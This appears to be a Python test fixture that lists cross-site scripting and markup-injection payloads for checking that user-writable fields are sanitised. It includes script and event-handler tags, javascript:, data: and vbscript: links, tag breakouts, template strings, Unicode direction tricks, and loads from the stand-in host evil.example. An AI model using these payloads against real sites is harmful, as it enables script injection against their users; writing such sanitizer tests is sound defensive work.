"""What a stranger may try to write, wherever a person may write (SAFETY.md, line 10).

Each would set ``__pwned``, open a dialog, or ask another host, had it its way.
"""

SCRIPT = "<script>__pwned=1</script>"
IMAGE = "<img src=x onerror='__pwned=2'>"

TRICKS = [
    SCRIPT,
    IMAGE,
    "<svg onload='__pwned=3'><script>__pwned=4</script></svg>",
    "<svg><animate onbegin='__pwned=5' attributeName=x dur=1s></svg>",
    '"><script>__pwned=6</script>',
    "' autofocus onfocus='__pwned=7' x='",
    "<details open ontoggle='__pwned=8'>x</details>",
    "<iframe srcdoc='<script>parent.__pwned=9</script>'></iframe>",
    "<a href='javascript:__pwned=10'>a link</a>",
    "<style>@import url('http://evil.example/x.css')</style>",
    "<link rel=stylesheet href=http://evil.example/y.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button>press</button></form>",
    "[a link](javascript:__pwned=11)",
    "[a link](JaVaScRiPt&colon;__pwned=12)",
    "[a link](java\tscript:__pwned=13)",
    "[a link](data:text/html,<script>__pwned=14</script>)",
    "[a link](vbscript:msgbox(1))",
    "<javascript:__pwned=15>",
    "![picture](http://evil.example/p.png)",
    "![picture](javascript:__pwned=16)",
    "[one]: javascript:__pwned=17\n\n[one]",
    '[a link](https://example.org "x" onmouseover="__pwned=18")',
    "[a link](https://example.org/\"onmouseover='__pwned=19')",
    "`<script>__pwned=20</script>`",
    "```\n<script>__pwned=21</script>\n```",
    "&lt;script&gt;__pwned=22&lt;/script&gt;",
    "@ada<script>__pwned=23</script>",
    "{{ 7 * 7 }} {% csrf_token %} ${__pwned=24} {name}",
    "</template><script>__pwned=25</script>",
    "</textarea><script>__pwned=26</script>",
    "</up-room></main><script>__pwned=27</script>",
    "\u202egnp.exe \u200b\u200d <b>bold</b>",
]
EVERYTHING = "\n\n".join(TRICKS)
LINE = " ".join(TRICKS[:3])  # for fields of one short line
